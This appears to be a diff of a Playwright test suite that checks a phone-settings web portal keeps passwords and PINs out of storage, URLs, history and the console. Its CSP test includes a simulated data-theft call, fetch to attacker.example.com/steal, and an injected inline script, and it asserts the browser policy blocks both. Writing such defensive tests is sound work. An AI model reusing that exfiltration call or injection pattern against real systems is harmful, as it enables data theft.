@@ -1,11 +1,11 @@
 /**
- * Credential hygiene: after a full session (sign in, visit every page, change something, sign out)
- * no password or PIN is in storage, cookies, IndexedDB, a requested URL, a history entry or the
- * console; the CSP of the build allows scripts from self only and connections to the configured API
+ * Credential hygiene: after a session (sign in, visit pages, change something, change the secrets,
+ * reload, sign out) no password or PIN is in storage, cookies, IndexedDB, a requested URL, a history
+ * entry or the console; the CSP of the build allows scripts from self only and connections to the configured API
  * origins only; and sign-out leaves no personal data behind.
  */
 import { readFileSync } from 'node:fs'
-import type { Page } from '@playwright/test'
+import type { APIRequestContext, BrowserContext, Page } from '@playwright/test'
 import { test, expect } from '../support/fixtures.ts'
 import { navigateTo, signInAs } from './support.ts'
 
@@ -81,63 +81,119 @@ function expectFree(where: string, haystack: string, secrets: string[]) {
   for (const secret of secrets) expect(haystack, `${where} holds a secret`).not.toContain(secret)
 }
 
-test.describe('credential hygiene', () => {
-  test('a full session leaves no password or PIN in storage, cookies, IndexedDB, URLs, history or the console', async ({
+/**
+ * Watches one session for secrets: every requested URL (and which origins got credentials), the
+ * console and page errors, and every history entry the app writes. `check` then looks at storage,
+ * cookies and IndexedDB while signed in, signs out, and looks again, with the recorded URLs, history,
+ * console and the DOM after sign-out.
+ */
+async function watchSession(page: Page, context: BrowserContext, mockUrl: string, secrets: string[]) {
+  const urls: string[] = []
+  const authorizedOrigins = new Set<string>()
+  page.on('request', (r) => {
+    urls.push(r.url())
+    if (r.headers()['authorization']) authorizedOrigins.add(new URL(r.url()).origin)
+  })
+  const consoleLines: string[] = []
+  page.on('console', (m) => consoleLines.push(`${m.type()}: ${m.text()}`))
+  page.on('pageerror', (e) => consoleLines.push(`pageerror: ${e.message}`))
+  const history = await recordHistory(page)
+
+  return {
+    async check() {
+      // While signed in: nothing at rest holds a secret.
+      expectFree('storage (signed in)', await browserStorage(page), secrets)
+      expectFree('cookies (signed in)', JSON.stringify(await context.cookies()), secrets)
+
+      await page.getByRole('button', { name: 'Sign out' }).click()
+      await expect(page.getByRole('heading', { level: 1, name: /sign in/i })).toBeVisible()
+
+      expectFree('storage', await browserStorage(page), secrets)
+      // credentials: 'omit' — the mock's JSESSIONID is never stored.
+      expect(await context.cookies()).toEqual([])
+      // The one documented exception: CUPI takes the new voicemail PIN as a query parameter of its PUT.
+      const withPin = urls.filter((u) => u.includes(VOICEMAIL_PIN))
+      expect(withPin.map((u) => new URL(u).pathname)).toEqual(
+        withPin.length ? ['/vmrest/user/credential/pin'] : [],
+      )
+      expectFree('requested URLs', urls.filter((u) => !withPin.includes(u)).join('\n'), secrets)
+      expectFree('history entries', JSON.stringify(history), secrets)
+      expect(history.length, 'history was recorded').toBeGreaterThan(1)
+      expectFree('console', consoleLines.join('\n'), secrets)
+      expectFree('DOM after sign-out', await page.content(), secrets)
+      // Credentials only ever went to the API server.
+      expect([...authorizedOrigins]).toEqual([mockUrl])
+    },
+  }
+}
+
+/** Sets demo's password on the server to a distinctive one before the session. */
+async function setPassword(request: APIRequestContext, mockUrl: string, password: string) {
+  const set = await request.put(`${mockUrl}/cucm-uds/user/demo/credentials`, {
+    headers: {
+      Authorization: `Basic ${Buffer.from('demo:demo').toString('base64')}`,
+      'Content-Type': 'application/xml',
+    },
+    data: `<credentials><credential type="password">${password}</credential></credentials>`,
+  })
+  expect(set.status()).toBe(204)
+}
+
+const saved = (page: Page, text: string) =>
+  expect(page.getByRole('status').filter({ hasText: text }).first()).toBeVisible()
+
+// A whole session is four sessions here (each short, each checked the same way): changes on the
+// settings pages (two sessions), the three secrets changed, and a reload that asks for the password.
+test.describe('credential hygiene: no password or PIN in storage, cookies, IndexedDB, URLs, history or the console after', () => {
+  test('a change on Profile, Call forwarding and Do not disturb', async ({
     page,
     context,
     mock,
     request,
   }) => {
-    test.setTimeout(180_000) // a whole session: every page, four changes, a reload (slow on a busy 2-core machine)
-    // A distinctive password for demo, set on the server before the session.
-    const set = await request.put(`${mock.url}/cucm-uds/user/demo/credentials`, {
-      headers: {
-        Authorization: `Basic ${Buffer.from('demo:demo').toString('base64')}`,
-        'Content-Type': 'application/xml',
-      },
-      data: `<credentials><credential type="password">${PASSWORD}</credential></credentials>`,
-    })
-    expect(set.status()).toBe(204)
-    const secrets = [...encodings(PASSWORD), ...encodings(NEW_PASSWORD), PHONE_PIN, VOICEMAIL_PIN]
-
-    const urls: string[] = []
-    const authorizedOrigins = new Set<string>()
-    page.on('request', (r) => {
-      urls.push(r.url())
-      if (r.headers()['authorization']) authorizedOrigins.add(new URL(r.url()).origin)
-    })
-    const consoleLines: string[] = []
-    page.on('console', (m) => consoleLines.push(`${m.type()}: ${m.text()}`))
-    page.on('pageerror', (e) => consoleLines.push(`pageerror: ${e.message}`))
-    const history = await recordHistory(page)
-
+    await setPassword(request, mock.url, PASSWORD)
+    const session = await watchSession(page, context, mock.url, encodings(PASSWORD))
     await page.goto('/sign-in')
     await signInAs(page, 'demo', PASSWORD)
-    // Change something on every page, then reload once (the session asks for the password again).
-    const saved = (text: string) =>
-      expect(page.getByRole('status').filter({ hasText: text }).first()).toBeVisible()
     await page.getByLabel('Display name').fill('Dana Hygiene')
     await page.getByRole('button', { name: 'Save profile' }).click()
-    await saved('Profile saved')
+    await saved(page, 'Profile saved')
     await navigateTo(page, 'Call forwarding')
     await page.getByRole('radio', { name: 'Forward to voicemail' }).check()
     await page.getByRole('button', { name: 'Save forwarding' }).click()
-    await saved('Forwarding saved.')
+    await saved(page, 'Forwarding saved.')
     await navigateTo(page, 'Do not disturb')
     await page.getByRole('switch', { name: 'Do not disturb' }).click()
-    await saved('Do not disturb is on')
-    await navigateTo(page, 'Speed dials')
+    await saved(page, 'Do not disturb is on')
+    await session.check()
+  })
+
+  test('a change on Speed dials and Single Number Reach', async ({ page, context, mock, request }) => {
+    await setPassword(request, mock.url, PASSWORD)
+    const session = await watchSession(page, context, mock.url, encodings(PASSWORD))
+    await page.goto('/speed-dials')
+    await page.waitForURL(/\/sign-in/)
+    await signInAs(page, 'demo', PASSWORD, 'Speed dials')
     await page.getByRole('button', { name: "Move 'Conference bridge' up" }).click()
     await page.getByRole('button', { name: 'Save speed dials' }).click()
-    await saved('Speed dials saved')
+    await saved(page, 'Speed dials saved')
     await navigateTo(page, 'Single Number Reach')
     await page
       .getByRole('listitem')
       .filter({ hasText: 'Mobile' })
       .locator('label', { hasText: 'Ring this phone' })
       .click()
-    await saved('Mobile won’t ring')
-    await navigateTo(page, 'PIN and password')
+    await saved(page, 'Mobile won’t ring')
+    await session.check()
+  })
+
+  test('changing both PINs and the password', async ({ page, context, mock, request }) => {
+    await setPassword(request, mock.url, PASSWORD)
+    const secrets = [...encodings(PASSWORD), ...encodings(NEW_PASSWORD), PHONE_PIN, VOICEMAIL_PIN]
+    const session = await watchSession(page, context, mock.url, secrets)
+    await page.goto('/pin-and-password')
+    await page.waitForURL(/\/sign-in/)
+    await signInAs(page, 'demo', PASSWORD, 'PIN and password')
     for (const [label, value, button, done] of [
       ['phone PIN', PHONE_PIN, 'Change phone PIN', 'Phone PIN changed'],
       ['voicemail PIN', VOICEMAIL_PIN, 'Change voicemail PIN', 'Voicemail PIN changed'],
@@ -145,46 +201,43 @@ test.describe('credential hygiene', () => {
       await page.getByLabel(`New ${label}`, { exact: true }).fill(value)
       await page.getByLabel(`Confirm new ${label}`, { exact: true }).fill(value)
       await page.getByRole('button', { name: button }).click()
-      await saved(done)
+      await saved(page, done)
     }
     await page.getByLabel('New password', { exact: true }).fill(NEW_PASSWORD)
     await page.getByLabel('Confirm new password', { exact: true }).fill(NEW_PASSWORD)
     await page.getByRole('button', { name: 'Change portal password' }).click()
-    await saved('Portal password changed')
+    await saved(page, 'Portal password changed')
     expect([
       await mock.checkSecret('demo', 'password', NEW_PASSWORD),
       await mock.checkSecret('demo', 'pin', PHONE_PIN),
       await mock.checkSecret('demo', 'voicemailPin', VOICEMAIL_PIN),
     ]).toEqual([true, true, true])
-    for (const name of PAGES) await navigateTo(page, name)
-    await page.reload()
-    await page.getByLabel('Password', { exact: true }).fill(NEW_PASSWORD)
-    await page.getByRole('button', { name: 'Sign in' }).click()
-    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    // After the change, every page still works with the new password held in memory only.
     await navigateTo(page, 'Profile')
-
-    // While signed in: nothing at rest holds the password.
-    expectFree('storage (signed in)', await browserStorage(page), secrets)
-    expectFree('cookies (signed in)', JSON.stringify(await context.cookies()), secrets)
-
-    await page.getByRole('button', { name: 'Sign out' }).click()
-    await expect(page.getByRole('heading', { level: 1, name: /sign in/i })).toBeVisible()
-
-    expectFree('storage', await browserStorage(page), secrets)
-    // credentials: 'omit' — the mock's JSESSIONID is never stored.
-    expect(await context.cookies()).toEqual([])
-    // The one documented exception: CUPI takes the new voicemail PIN as a query parameter of its PUT.
-    const withPin = urls.filter((u) => u.includes(VOICEMAIL_PIN))
-    expect(withPin.map((u) => new URL(u).pathname)).toEqual(['/vmrest/user/credential/pin'])
-    expectFree('requested URLs', urls.filter((u) => !withPin.includes(u)).join('\n'), secrets)
-    expectFree('history entries', JSON.stringify(history), secrets)
-    expect(history.length, 'history was recorded').toBeGreaterThan(3)
-    expectFree('console', consoleLines.join('\n'), secrets)
-    expectFree('DOM after sign-out', await page.content(), secrets)
-    // Credentials only ever went to the API server.
-    expect([...authorizedOrigins]).toEqual([mock.url])
+    await session.check()
   })
 
+  test('a visit to every page and a reload (the password is asked for again)', async ({
+    page,
+    context,
+    mock,
+    request,
+  }) => {
+    await setPassword(request, mock.url, PASSWORD)
+    const session = await watchSession(page, context, mock.url, encodings(PASSWORD))
+    await page.goto('/sign-in')
+    await signInAs(page, 'demo', PASSWORD)
+    for (const name of PAGES) await navigateTo(page, name)
+    await page.reload()
+    await page.getByLabel('Password', { exact: true }).fill(PASSWORD)
+    await page.getByRole('button', { name: 'Sign in' }).click()
+    await expect(page.getByRole('heading', { level: 1, name: 'PIN and password' })).toBeVisible()
+    await navigateTo(page, 'Profile')
+    await session.check()
+  })
+})
+
+test.describe('credential hygiene', () => {
   test('sign-out leaves no personal data in the DOM, and the cache is gone: /profile asks to sign in', async ({
     page,
   }) => {
@@ -266,6 +319,14 @@ test.describe('content security policy', () => {
     })
     await page.goto('/sign-in')
     const outcome = await page.evaluate(async () => {
+      // The browser reports each blocked attempt as a violation event: wait for both, not for time.
+      const directives: string[] = []
+      const bothReported = new Promise<void>((resolve) =>
+        document.addEventListener('securitypolicyviolation', (e) => {
+          directives.push(e.effectiveDirective)
+          if (directives.length === 2) resolve()
+        }),
+      )
       let fetched = 'blocked'
       try {
         await fetch('https://attacker.example.com/steal', { mode: 'no-cors' })
@@ -276,10 +337,20 @@ test.describe('content security policy', () => {
       const script = document.createElement('script')
       script.textContent = 'window.__injected = true'
       document.body.appendChild(script)
-      await new Promise((r) => setTimeout(r, 50))
-      return { fetched, injected: (window as unknown as { __injected?: boolean }).__injected === true }
+      await bothReported
+      return {
+        fetched,
+        injected: (window as unknown as { __injected?: boolean }).__injected === true,
+        directives: directives.sort(),
+      }
     })
-    expect(outcome).toEqual({ fetched: 'blocked', injected: false })
-    expect(violations.length).toBeGreaterThanOrEqual(2)
+    expect(outcome).toEqual({
+      fetched: 'blocked',
+      injected: false,
+      directives: ['connect-src', 'script-src-elem'],
+    })
+    await expect
+      .poll(() => violations.length, { message: 'both reported in the console' })
+      .toBeGreaterThanOrEqual(2)
   })
 })
